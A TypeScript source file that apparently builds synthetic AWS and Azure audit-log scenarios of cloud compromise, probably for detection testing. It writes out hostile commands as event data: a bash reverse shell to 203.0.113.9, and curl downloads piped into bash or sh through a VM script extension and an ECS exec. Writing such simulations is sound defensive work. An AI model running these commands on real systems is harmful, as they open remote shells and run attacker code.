import { AZURE_PORTAL, person } from './activity-log'
import { partner, role, user } from './aws-callers'
import { AUTOMATION_ACCOUNT, instance, later, PARTNER_TENANT, vm } from './ids'
import { runCommandScript } from './processes'
import type { Story } from './story'

const STOLEN = role('Deploy', 'ci-9999', { ip: '203.0.113.7', userAgent: 'Boto3/1.34.0 md/Botocore#1.34.0' })
const FLEET = [3, 4, 5, 6, 7, 8].map(instance)

/**
 * The deploy role in other hands: a reverse shell, then the whole fleet one by one, then
 * everything by tag whatever fails.
 */
export const writeStolenRole = (story: Story, date: string): void => {
  const at = (time: string): string => `${date}T${time}.000Z`
  const shell = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
  const commandId = story.send(at('02:41:10'), STOLEN, { instances: [instance(1)] }, [shell])
  story.guest(at('02:41:12'), instance(1), commandId, '/usr/bin/bash', 'bash -i')
  story.send(at('02:52:30'), STOLEN, { instances: FLEET })
  story.send(at('03:05:00'), STOLEN, {
    targets: [{ key: 'tag:Environment', values: ['production'] }],
    maxConcurrency: '100%',
    maxErrors: '100%',
  })
}

const PROVIDER = person('support@example.com', 0x31, {
  ip: '203.0.113.40',
  tenant: PARTNER_TENANT,
  through: 'ForeignGroup',
})
const ALICE = person('alice@example.com', 0x11, { ip: '203.0.113.41', client: AZURE_PORTAL })
const BOB = person('bob@example.com', 0x12, { ip: '203.0.113.42' })

/**
 * A service provider's rights on a database server, a script extension by hand, a runbook
 * written, published and run at once.
 */
export const writeAzureDay = (story: Story, date: string): void => {
  const at = (time: string): string => `${date}T${time}.000Z`
  const run = at('11:20:00')
  story.operation(run, PROVIDER, 'Microsoft.Compute/virtualMachines/runCommand/action', vm('vm-db-01'), {
    ends: [
      ['Accept', 1],
      ['Success', 40],
    ],
  })
  story.start(later(run, 12), {
    host: 'VM-DB-01',
    executable: 'C:\\Windows\\System32\\whoami.exe',
    commandLine: 'whoami /all',
    parent: runCommandScript(0),
    cloud: 'azure',
  })

  story.operation(
    at('15:02:00'),
    ALICE,
    'Microsoft.Compute/virtualMachines/extensions/write',
    `${vm('vm-web-02')}/extensions/HealthMonitor`,
    {
      requestBody: {
        location: 'westeurope',
        properties: {
          publisher: 'Microsoft.Azure.Extensions',
          type: 'CustomScript',
          typeHandlerVersion: '2.1',
          settings: { commandToExecute: 'curl -fsS http://203.0.113.9/agent.sh | bash' },
        },
      },
    },
  )

  const runbook = `${AUTOMATION_ACCOUNT}/runbooks/Sync-Inventory`
  const steps = ['runbooks/write', 'runbooks/draft/content/write', 'runbooks/publish/action'].map(
    (step) => `Microsoft.Automation/automationAccounts/${step}`,
  )
  for (const [place, step] of steps.entries())
    story.listed(later(at('19:30:00'), place * 20), BOB, step, runbook, { ends: [['Success', 2]] })
  story.listed(
    at('19:31:30'),
    BOB,
    'Microsoft.Automation/automationAccounts/jobs/write',
    `${AUTOMATION_ACCOUNT}/jobs/sync-1`,
    { ends: [['Success', 2]] },
  )
  story.listed(at('19:33:00'), BOB, 'Microsoft.Automation/automationAccounts/runbooks/delete', runbook, {
    ends: [['Success', 2]],
  })
}

const PARTNER_KEY = 'ASIAEXAMPLEKEY000077'
const SUPPORT = role('Support', 'support', { ip: '203.0.113.50', accessKeyId: PARTNER_KEY })
const OPERATIONS = role('Operations', 'botocore-session-1773000000', { ip: '203.0.113.51' })
const TEMPORARY = user('temp-admin', { ip: '203.0.113.52' })

/**
 * A role taken from another account, a download piped into a shell in a container, a boot
 * script, and a process nobody sent.
 */
export const writeLastDay = (story: Story, date: string): void => {
  const at = (time: string): string => `${date}T${time}.000Z`
  story.trail.push(story.cloudTrail.assumeRole(at('08:00:00'), partner('203.0.113.50'), 'Support', PARTNER_KEY))
  story.trail.push(story.cloudTrail.startSession(at('08:04:00'), SUPPORT, instance(3)))

  const task = 'arn:aws:ecs:eu-west-1:123456789012:task/shop/0123456789abcdef0123456789abcdef'
  const command = 'sh -c "curl -fsS http://203.0.113.9/i.sh | sh"'
  story.event(
    story.cloudTrail.call(
      at('13:15:00'),
      OPERATIONS,
      'ecs:ExecuteCommand',
      { cluster: 'shop', task, container: 'web', command, interactive: true },
      { taskArn: task, containerName: 'web', session: { sessionId: 'ecs-execute-command-0123456789abcdef0' } },
    ),
  )

  story.trail.push(
    ...story.cloudTrail.changeUserData([at('16:40:00'), at('16:41:05'), at('16:41:30')], TEMPORARY, instance(4)),
  )

  story.start(at('21:10:00'), {
    host: 'VM-APP-03',
    executable: 'C:\\Windows\\System32\\cmd.exe',
    commandLine: '"cmd" /Cpowershell  -ExecutionPolicy Unrestricted -File script7.ps1',
    parent: 'C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.18\\bin\\RunCommandExtension.exe',
    cloud: 'azure',
  })
}
